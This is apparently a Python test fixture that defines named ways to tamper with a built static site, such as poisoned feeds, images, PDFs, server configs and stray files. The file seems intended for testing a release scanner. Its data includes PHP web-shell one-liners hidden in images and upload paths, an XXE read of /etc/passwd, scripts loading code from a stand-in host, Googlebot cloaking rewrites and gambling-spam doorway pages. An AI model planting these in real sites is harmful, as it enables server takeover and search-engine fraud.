"""Words: ways to plant something beside the pages that were built: changed files and strange ones, each by its name."""

from __future__ import annotations

import gzip
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from tests.hostile.releases.pages import LINK, LURE

Files = Mapping[str, bytes]
Poison = Callable[[Files], dict[str, bytes]]

PAGE = b"<!doctype html><html lang=id><head><title>Laporan</title></head><body><p>Laporan</p></body></html>"


def _find(files: Files, *ends: str) -> str:
    return next(path for path in sorted(files) if path.endswith(ends))


def _append(ending: str, text: str) -> Poison:
    def poison(files: Files) -> dict[str, bytes]:
        path = _find(files, ending)
        return {path: files[path] + text.encode()}

    return poison


def _replace(ending: str, old: str, new: str) -> Poison:
    def poison(files: Files) -> dict[str, bytes]:
        path = _find(files, ending)
        assert old.encode() in files[path], (path, old)
        return {path: files[path].replace(old.encode(), new.encode(), 1)}

    return poison


def _add(path: str, data: str | bytes) -> Poison:
    return lambda _: {path: data.encode() if isinstance(data, str) else data}


def _feed(**changes: str) -> Poison:
    def poison(files: Files) -> dict[str, bytes]:
        feed = json.loads(files["feed.json"])
        feed["items"][0].update(changes)
        return {"feed.json": json.dumps(feed, ensure_ascii=False).encode()}

    return poison


def _form(ending: str, squeeze: Callable[[bytes], bytes]) -> Poison:
    return lambda files: {f"index.html{ending}": squeeze(files["index.html"])}


def _fragment(**changes: str) -> Poison:
    def poison(files: Files) -> dict[str, bytes]:
        path = _find(files, ".pf_fragment")
        plain = gzip.decompress(files[path])
        head, body = plain[:12], json.loads(plain[12:])
        return {path: gzip.compress(head + json.dumps({**body, **changes}).encode(), mtime=0)}

    return poison


def _png(*, comment: bytes = b"", tail: bytes = b"") -> Poison:
    def poison(files: Files) -> dict[str, bytes]:
        path = _find(files, ".png")
        data = files[path]
        chunk = b"tEXt" + comment
        part = (
            struct.pack(">I", len(comment)) + chunk + struct.pack(">I", zlib.crc32(chunk)) if comment else b""
        )
        return {path: data[:33] + part + data[33:] + tail}

    return poison


def _office(parts: Mapping[str, str], tail: bytes = b"") -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, text in parts.items():
            archive.writestr(zipfile.ZipInfo(name), text)
    return made.getvalue() + tail


def _pdf(body: str, tail: str = "", packed: str = "") -> bytes:
    stream = zlib.compress(packed.encode()) if packed else b""
    inner = b"2 0 obj<</Filter/FlateDecode>>stream\n" + stream + b"\nendstream endobj\n" if packed else b""
    return b"%PDF-1.4\n1 0 obj<<" + body.encode() + b">>endobj\n" + inner + b"%%EOF\n" + tail.encode()


_GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
_RELS = '<Relationship Id="a" Target="https://tamu.example/t.dotm" TargetMode="External"/>'

IN_FILES: dict[str, Poison] = {
    # Feeds and maps.
    "atom: link elsewhere": _replace("feed.xml", "<entry>", '<entry><link href="https://tamu.example/"/>'),
    "atom: own link elsewhere": _replace("feed.xml", "<entry>", '<link rel="next" href="https://tamu.example/"/><entry>'),
    "atom: hub elsewhere": _replace("feed.xml", "<entry>", '<link rel="hub" href="https://tamu.example/"/><entry>'),
    "atom: enclosure elsewhere": _replace("feed.xml", "<entry>", '<entry><link rel="enclosure" href="https://tamu.example/a.mp3"/>'),
    "atom: title that sells": _replace("feed.xml", "<entry>", f"<entry><title>{LURE}</title>"),
    "atom: summary as a page": _replace("feed.xml", "<summary>", "<summary type=\"html\">&lt;a href=&quot;https://tamu.example/&quot;&gt;x&lt;/a&gt; "),
    "atom: content in cdata": _replace("feed.xml", "<entry>", f"<entry><content type=\"html\"><![CDATA[{LINK}]]></content>"),
    "atom: content with a script": _replace("feed.xml", "<entry>", "<entry><content type=\"html\">&lt;script&gt;alert(1)&lt;/script&gt;</content>"),
    "atom: entity": _replace("feed.xml", "<feed", '<!DOCTYPE feed [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<feed'),
    "atom: transformed elsewhere": _replace("feed.xml", "<feed", '<?xml-stylesheet type="text/xsl" href="https://tamu.example/a.xsl"?>\n<feed'),
    "atom: comment": _replace("feed.xml", "<entry>", "<!-- laporan --><entry>"),
    "atom: another namespace": _replace("feed.xml", "<entry>", '<entry xmlns:x="https://tamu.example/ns">'),
    "atom: category that sells": _replace("feed.xml", "<entry>", '<entry><category term="slot gacor"/>'),
    "json feed: item elsewhere": _feed(url="https://tamu.example/"),
    "json feed: citation elsewhere": _feed(external_url="https://tamu.example/"),
    "json feed: page with a link": _feed(content_html=LINK),
    "json feed: page with a hidden text": _feed(content_html="<p hidden>Laporan yang tersembunyi dari pembaca</p>"),
    "json feed: text that sells": _feed(content_text=LURE),
    "json feed: picture elsewhere": _feed(image="https://tamu.example/p.png"),
    "json feed: no json": _append("feed.json", "alert(1)"),
    "sitemap: page elsewhere": _replace("sitemap.xml", "<url>", "<url><loc>https://tamu.example/</loc></url><url>"),
    "sitemap: page that is not there": _replace("sitemap.xml", "<url>", "<url><loc>https://kabar-kinerja.example/promo/</loc></url><url>"),
    "sitemap: address that sells": _replace("sitemap.xml", "<url>", "<url><loc>https://kabar-kinerja.example/slot-gacor/</loc></url><url>"),
    "robots: map elsewhere": _append("robots.txt", "\nSitemap: https://tamu.example/sitemap.xml\n"),
    "robots: rule for one robot": _append("robots.txt", "\nUser-agent: Googlebot\nAllow: /promo/\n"),
    "robots: words that sell": _append("robots.txt", f"\n# {LURE}\n"),
    "security.txt: contact elsewhere": _append("security.txt", "\nContact: https://tamu.example/\n"),
    "security.txt: mail elsewhere in a link": _append("security.txt", "\nPolicy: https://rajaslot88.example/\n"),
    # Stylesheets and scripts.
    "css: everything hidden": _append(".css", ".prose{display:none}"),
    "css: loaded from elsewhere": _append(".css", '@import "https://tamu.example/a.css";'),
    "css: picture from elsewhere": _append(".css", "body{background:url(//tamu.example/p.gif)}"),
    "css: words that sell": _append(".css", f'h1::after{{content:"{LURE}"}}'),
    "css: one rule more": _append(".css", "p{color:#111}"),
    "css: expression": _append(".css", "p{width:expression(alert(1))}"),
    "css: new sheet": _add("theme/css/tambahan.css", "p{color:#111}"),
    "js: one line more": _append(".js", "\n;1"),
    "js: leads away": _append(".js", '\nlocation.href="https://tamu.example/"'),
    "js: cloaks": _append(".js", "\nif(/bot/i.test(navigator.userAgent))document.body.textContent=''"),
    "js: hides itself": _append(".js", "\neval(atob('YWxlcnQoMSk='))"),
    "js: loads another": _append(".js", "\nimport('https://tamu.example/a.js')"),
    "js: new script": _add("theme/js/statistik.js", "console.log(1)"),
    "js: worker that stays": _add("sw.js", "self.addEventListener('fetch',()=>{})"),
    "js: module": _add("theme/js/a.mjs", "export const a = 1"),
    "wasm: another program": lambda files: {_find(files, ".pagefind"): b"\x00asm\x01\x00\x00\x00"},
    "pagefind: another script": _append("pagefind.js", "\n;1"),
    # The search's index.
    "index: text that sells": _fragment(content=LURE),
    "index: address elsewhere": _fragment(url="https://tamu.example/"),
    "index: text with a link": _fragment(content=LINK),
    "index: no fragment": lambda files: {_find(files, ".pf_fragment"): PAGE},
    "index: page in a packed piece": lambda files: {_find(files, ".pf_index"): gzip.compress(b"pagefind_dcd<script>1</script>", mtime=0)},
    # Compressed forms.
    "gzip: another page": _form(".gz", lambda page: gzip.compress(page.replace(b"</main>", LINK.encode() + b"</main>"), mtime=0)),
    "gzip: something behind its end": _form(".gz", lambda page: gzip.compress(page, mtime=0) + PAGE),
    "gzip: broken": _form(".gz", lambda page: page),
    "gzip: without its page": _add("promo.html.gz", gzip.compress(PAGE, mtime=0)),
    "brotli: another page": _form(".br", lambda page: b"\x0b\x02\x80halo\x03"),
    # Pictures.
    "png: page behind its end": _png(tail=PAGE),
    "png: php behind its end": _png(tail=b"<?php system($_GET[0]);"),
    "png: quiet bytes behind its end": _png(tail=b"\x00" * 64),
    "png: words within": _png(comment=b"Comment\x00" + LURE.encode()),
    "png: php within": _png(comment=b"Comment\x00<?php eval($_POST[0]);?>"),
    "png: no picture": lambda files: {_find(files, ".png"): PAGE},
    "gif: script that is a picture": _add("gambar/a.gif", b"GIF89a=1;alert(1)//"),
    "gif: comment": _add("gambar/b.gif", _GIF[:-1] + b"\x21\xfe\x10<script>alert(1\x00;"),
    "gif: another kind's name": _add("gambar/c.png", _GIF),
    "gif: php behind its end": _add("gambar/d.gif", _GIF + b"<?php 1;"),
    "jpeg: no picture": _add("media/a.jpg", b"<?php phpinfo();"),
    "jpeg: page with a picture's beginning": _add("media/b.jpg", b"\xff\xd8\xff\xe0" + PAGE),
    "webp: no picture": _add("media/a.webp", b"RIFF\x00\x00\x00\x00WEBP<script>1</script>"),
    "avif: no picture": _add("media/a.avif", PAGE),
    "svg: drawing with a script": _add("gambar/a.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "svg: drawing with a handler": _add("gambar/b.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "svg: drawing with a link": _add("gambar/c.svg", '<svg xmlns="http://www.w3.org/2000/svg"><a href="https://tamu.example/">x</a></svg>'),
    "svg: quiet drawing": _add("gambar/d.svg", '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0,0"/></svg>'),
    "ico: unknown picture": _add("favicon.ico", b"\x00\x00\x01\x00"),
    "mp4: page": _add("media/a.mp4", PAGE),
    "mp4: page behind a film": _add("media/b.mp4", b"\x00\x00\x00\x18ftypmp42" + PAGE),
    "mp3: no sound": _add("media/a.mp3", PAGE),
    # Documents.
    "pdf: script": _add("media/a.pdf", _pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
    "pdf: script by another spelling": _add("media/b.pdf", _pdf("/Open#41ction<</S/J#61vaScript>>")),
    "pdf: link elsewhere": _add("media/c.pdf", _pdf("/A<</S/URI/URI(https://tamu.example/)>>")),
    "pdf: link elsewhere, packed": _add("media/d.pdf", _pdf("/A 2", packed="/S/URI/URI(https://tamu.example/)")),
    "pdf: link in hexadecimal": _add("media/e.pdf", _pdf("/A<</URI<" + b"https://tamu.example/".hex() + ">>>")),
    "pdf: words that sell": _add("media/f.pdf", _pdf("/A 2", packed=f"BT ({LURE}) Tj ET")),
    "pdf: page behind its end": _add("media/g.pdf", _pdf("/A 1", tail=PAGE.decode())),
    "pdf: file within": _add("media/h.pdf", _pdf("/EmbeddedFile 2")),
    "pdf: no document": _add("media/i.pdf", PAGE),
    "office: macro": _add("media/a.docx", _office({"word/document.xml": "<w:t>Laporan</w:t>", "word/vbaProject.bin": "x"})),
    "office: template elsewhere": _add("media/b.docx", _office({"word/_rels/document.xml.rels": _RELS})),
    "office: words that sell": _add("media/c.docx", _office({"word/document.xml": f"<w:t>{LURE}</w:t>"})),
    "office: page within": _add("media/d.zip", _office({"index.html": "<p>Laporan</p>"})),
    "office: program within": _add("media/e.zip", _office({"a/b.php": "<?php"})),
    "office: way out of its folder": _add("media/f.zip", _office({"../../x.txt": "Laporan"})),
    "office: page behind its end": _add("media/g.xlsx", _office({"xl/a.xml": "<t>1</t>"}, tail=PAGE)),
    "office: no document": _add("media/h.docx", PAGE),
    "csv: words that sell": _add("media/a.csv", f"nama,nilai\n{LURE},1\n"),
    "csv: link elsewhere": _add("media/b.csv", "nama,laman\nA,https://tamu.example/\n"),
    "text: page": _add("media/a.txt", "<html><body>Laporan</body></html>"),
    "text: words that sell": _add("media/b.txt", LURE),
    "text: not utf-8": _add("media/c.txt", b"Laporan \xff\xfe"),
    # Files for servers.
    "htaccess: for robots alone": _add(".htaccess", "RewriteCond %{HTTP_USER_AGENT} Googlebot\nRewriteRule ^(.*)$ /promo/$1\n"),
    "htaccess: for who comes from a search": _add(".htaccess", "RewriteCond %{HTTP_REFERER} google\nRewriteRule .* /promo/\n"),
    "htaccess: for a network alone": _add(".htaccess", "RewriteCond %{REMOTE_ADDR} ^66\\.249\n"),
    "htaccess: leads elsewhere": _add(".htaccess", "Redirect 301 / https://tamu.example/\n"),
    "htaccess: runs pictures": _add(".htaccess", "AddType application/x-httpd-php .jpg\n"),
    "htaccess: runs something before": _add(".htaccess", "php_value auto_prepend_file /tmp/x\n"),
    "htaccess: page of errors elsewhere": _add(".htaccess", "ErrorDocument 404 https://tamu.example/\n"),
    "htaccess: includes": _add(".htaccess", "Options +Includes\n"),
    "htaccess: below": _add("media/.htaccess", "Require all granted\n"),
    "redirects: elsewhere": _add("_redirects", "/a/ https://tamu.example/ 301\n"),
    "redirects: from elsewhere, unseen": _add("_redirects", "/promo/* https://tamu.example/:splat 200\n"),
    "redirects: for a country": _add("_redirects", "/ /promo/ 302 Country=id\n"),
    "redirects: for a language": _add("_redirects", "/ /promo/ 302 Language=en\n"),
    "headers: link elsewhere": _add("_headers", "/*\n  Link: <https://tamu.example/>; rel=canonical\n"),
    "headers: refresh": _add("_headers", "/*\n  Refresh: 0; url=/promo/\n"),
    "headers: cookie": _add("_headers", "/*\n  Set-Cookie: a=b\n"),
    "headers: loose policy": _add("_headers", "/*\n  Content-Security-Policy: script-src 'unsafe-inline' *\n"),
    "nginx: for robots alone": _add("nginx.conf", "if ($http_user_agent ~* bot) { return 302 /promo/; }\n"),
    "another server's file": _add("web.config", "<configuration/>"),
    "host's worker": _add("_worker.js", "export default {fetch(){}}"),
    "host's routes": _add("_routes.json", '{"version":1}'),
    # Strange files.
    "extra: php": _add("wp-content/uploads/x.php", "<?php eval($_POST[1]);"),
    "extra: php under another name": _add("media/a.jpg.php", "<?php 1;"),
    "extra: php before a picture's ending": _add("media/a.php.jpg", "<?php 1;"),
    "extra: phtml": _add("index.phtml", "<?php 1;"),
    "extra: asp": _add("a.aspx", "<% 1 %>"),
    "extra: shell": _add("a.sh", "#!/bin/sh\n"),
    "extra: cgi": _add("cgi-bin/a.cgi", "#!/usr/bin/perl\n"),
    "extra: php.ini": _add(".user.ini", "auto_prepend_file=/tmp/x\n"),
    "extra: git": _add(".git/config", "[core]\n"),
    "extra: environment": _add(".env", "TOKEN=rahasia\n"),
    "extra: flash": _add("a.swf", b"CWS"),
    "extra: without an ending": _add("promo", "Laporan"),
    "extra: unknown ending": _add("a.xyz", "Laporan"),
    "extra: rss": _add("promo.rss", "<rss/>"),
    "extra: transformation": _add("a.xsl", "<xsl:stylesheet/>"),
    "extra: app's manifest": _add("a.webmanifest", '{"start_url":"https://tamu.example/"}'),
    "extra: certificate": _add(".well-known/assetlinks.json", '[{"target":{"site":"https://tamu.example/"}}]'),
    "extra: search console": _add("google1234567890abcdef.html", "google-site-verification: google1234567890abcdef.html"),
    "doorway: quiet page": _add("laporan/index.html", PAGE),
    "doorway: page that sells": _add("slot/index.html", PAGE.replace(b"Laporan", LURE.encode())),
    "doorway: name that sells": _add("slot-gacor-hari-ini/index.html", PAGE.replace(b"<title>", b'<meta name="robots" content="noindex"><title>')),
    "doorway: page at an old address, leading away": _add("lama/index.html", PAGE.replace(b"<title>", b'<meta http-equiv="refresh" content="0; url=https://tamu.example/"><title>')),
    "doorway: page in a depth": _add("semarang/2025/02/26/laporan/index.html", PAGE),
    "doorway: page beside an article": _add("semarang/promo.html", PAGE),
    "doorway: frameset": _add("f/index.html", '<frameset><frame src="https://tamu.example/"></frameset>'),
    "page: not utf-8": lambda files: {"index.html": files["index.html"].replace(b"<main", b"\xff<main")},
    "page: in sixteen bits": lambda files: {"index.html": files["index.html"].decode().encode("utf-16")},
    "page: with a zero byte": lambda files: {"index.html": files["index.html"].replace(b"</main>", b"Lap\x00oran</main>")},
    "page: cut short and grown": _append("index.html", LINK),
}  # fmt: skip
